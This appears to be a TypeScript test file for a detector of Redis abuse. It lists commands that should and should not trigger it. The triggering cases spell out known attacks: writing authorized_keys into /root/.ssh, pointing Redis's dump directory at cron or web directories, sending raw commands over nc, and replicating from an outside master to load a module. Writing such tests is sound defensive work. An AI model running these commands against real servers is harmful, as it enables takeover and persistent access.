import { indicatorTable, runs, script, UNSEEN } from '../testing.ts';
import { commandRedisFile } from './redis-file.ts';

indicatorTable(commandRedisFile, {
  fires: {
    'the crontab': runs('redis-cli', '-h', '192.0.2.9', 'config', 'set', 'dir', '/var/spool/cron/'),
    'the keys of a user, in capitals': script(
      'redis-cli -h redis CONFIG SET dir /root/.ssh; redis-cli CONFIG SET dbfilename authorized_keys; redis-cli SAVE',
    ),
    'the other client': script('valkey-cli -u redis://192.0.2.9 config set dir /etc/cron.d'),
    'the home of another user, behind wrappers': script(
      'timeout 5 /usr/local/bin/redis-cli -h 192.0.2.9 config set dir "/home/git/.ssh/"',
    ),
    'the directory in a variable': script('D=/var/spool/cron/crontabs; redis-cli config set dir $D'),
    'statements on its input': script(`printf 'config set dir /etc/cron.d\\nsave\\n' | redis-cli -h 192.0.2.9`),
    'statements in a here-document, in quotes': script(
      `redis-cli -h 192.0.2.9 <<'EOF'\nCONFIG SET dir "/var/www/html"\nSAVE\nEOF`,
    ),
    'over a plain connection': script(`printf 'CONFIG SET dir /root/.ssh\\r\\n' | nc -w 2 192.0.2.9 6379`),
    'two settings in one': script('redis-cli config set dbfilename root dir /var/spool/cron'),
    'a server outside that it follows, on the input': script(
      'for h in 10.0.0.1 10.0.0.2; do printf "SLAVEOF 203.0.113.7 6379\\nMODULE LOAD ./m.so\\n" | redis-cli -h $h; done',
    ),
    'a module that runs programs': runs('redis-cli', '-h', 'cache', 'system.exec', 'id'),
    'a server outside that it follows': script('redis-cli -h sessions.web.svc replicaof 203.0.113.7 6379'),
  },
  staysSilent: {
    'a server of the cluster that it follows': script('redis-cli -h redis-1 replicaof redis-0.redis 6379'),
    'a server of the cluster that it follows, on the input': script(
      'printf "REPLICAOF 10.0.0.7 6379\\n" | redis-cli -h redis-1',
    ),
    'a module of a search': runs('redis-cli', 'MODULE', 'LOAD', '/usr/lib/redis/modules/redisearch.so'),
    'a copy that is ended': script('redis-cli -h redis-1 replicaof no one'),
    'the place where data lies': runs('redis-cli', 'config', 'set', 'dir', '/data'),
    'a limit of memory': script('redis-cli -h redis config set maxmemory 2gb'),
    'the setting is read': script('redis-cli config get dir'),
    'a snapshot': script('redis-cli -h redis BGSAVE'),
    'a copy of the dump': script('redis-cli --rdb /backup/dump.rdb; aws s3 cp /backup/dump.rdb s3://acme-backups/'),
    'a key that is called so': script('redis-cli set dir /var/www'),
    'the crontab of the image': script('echo "0 * * * * /app/run" > /etc/crontabs/root; crond -f'),
    'a ping': script('redis-cli -h redis ping'),
  },
  cannotTell: UNSEEN,
});
